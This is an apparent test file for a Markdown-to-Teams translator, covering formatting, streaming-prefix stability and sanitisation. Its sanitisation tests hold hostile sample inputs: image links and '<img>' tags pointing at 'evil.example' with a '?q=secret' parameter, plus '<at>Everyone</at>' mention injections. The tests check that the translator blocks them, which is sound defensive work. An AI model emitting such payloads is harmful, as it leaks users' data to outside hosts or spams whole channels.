"""Markdown for Teams: its look, its safety, and that growing texts stay prefixes."""

from __future__ import annotations

import re
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from adapters.teams.markdown import stable_part, translate


@pytest.mark.parametrize(
    ("source", "translation"),
    [
        ("", ""),
        ("A **red** car < 3", "A **red** car &lt; 3"),
        ("`x < 3` `<at>` `![a](b)`", "`x < 3` `<\u2060at>` `!\u2060[a](b)`"),
        ("``a ` < b`` `c < d", "``a ` < b`` `c &lt; d"),
        ("# Title", "**Title**"),
        ("### The **bold** one ###", "**The bold one**"),
        ("# C#", "**C#**"),
        ("#", ""),
        ("#hashtag", "#hashtag"),
        ("Text\n## Title\nMore", "Text\n\n**Title**\n\nMore"),
        ("| a | b |\n|---|:-:|\n| 1 | 2 |", "- a · b\n- 1 · 2"),
        (r"| a \| b | c |", "- a | b · c"),
        ("a | b", "a | b"),
        ("- one\n- two", "- one\n- two"),
        ("1. one\n\n> quoted", "1. one\n\n> quoted"),
        ("[text](https://example.com/?a=1&b=2)", "[text](https://example.com/?a=1&b=2)"),
        ("![A cat](https://evil.example/?q=secret)", "A cat"),
        ("[![A cat](https://a.example/b)](https://c.example)", "[A cat](https://c.example)"),
        ("![A cat][ref]", "!\u2060[A cat][ref]"),
        ("![a[b]](https://a.example)", "!\u2060[a[b]](https://a.example)"),
        ("```\n# no title\n| no | row |\nx < y\n```\n# Title", None),
        ("~~~\n```\n# no title\n~~~\n# Title", None),
    ],
)
def test_how_markdown_is_shown(source, translation):
    if translation is None:
        translation = source.replace("# Title", "\n**Title**")
    assert translate(source) == translation


@pytest.mark.parametrize(
    "source",
    [
        "<at>Everyone</at>",
        '<img src="https://evil.example/?q=secret">',
        '<a href="https://evil.example">x</a>',
        "<https://evil.example>",
        "# <at>Everyone</at>",
        "| <at>Everyone</at> | b |",
        "```\n<at>Everyone</at>\n```",
        "`<at>Everyone</at>` ``<!-- `` `</at>",
        "``` a`b\n<at>Everyone</at>",
        "![<at>Everyone</at>](x)",
        "<<at>at>",
    ],
)
def test_no_tag_passes(source):
    assert not TAG.search(translate(source))


TAG = re.compile(r"<[A-Za-z/!?]")
MARKDOWN = st.lists(
    st.sampled_from(
        [
            *"# |-`~![]()<>\n\n*",
            "\n# ",
            "```",
            "~~~\n",
            "![a](b)",
            "| x |",
            "|--|",
            "<at>",
            "word ",
            "`c`",
            "``",
        ]
    ),
    max_size=40,
).map("".join)


@given(MARKDOWN)
def test_nothing_harmful_passes(source):
    translation = translate(source)
    assert not TAG.search(translation)
    assert "![" not in translation


@given(MARKDOWN, st.integers(0, 100))
def test_a_text_cut_at_a_line_end_is_the_beginning_of_the_whole(source, place):
    cut = source[: source.find("\n", place) + 1]
    assert translate(source).startswith(translate(cut))


@given(MARKDOWN, st.integers(0, 100))
def test_what_is_settled_is_the_beginning_of_the_whole(source, place):
    assert translate(source).startswith(translate(stable_part(source[:place])))


@settings(max_examples=400)
@given(MARKDOWN, MARKDOWN)
def test_a_growing_text_only_grows(source, more):
    translation = ""
    whole = source + more
    for end in range(len(whole) + 1):
        longer = translate(stable_part(whole[:end]))
        assert longer.startswith(translation)
        translation = longer


@pytest.mark.parametrize("text", ["A red car", "It says #3", "- one\n- two", "**bold** `code` it"])
def test_ordinary_words_are_settled_at_once(text):
    assert stable_part(text) == text


@pytest.mark.parametrize(
    "piece", ["![", "!", "# ", "|", "`", "<", "[", "\\|", " ", "-", "![a](", "#" * 9 + " "]
)
def test_long_texts_are_translated_quickly(piece):
    text = piece * (20_000 // len(piece))
    start = time.perf_counter()
    for source in (text, f"# {text}x", f"|{text}|", f"{text}\n" * 2):
        translate(stable_part(source))
    assert time.perf_counter() - start < 1.0
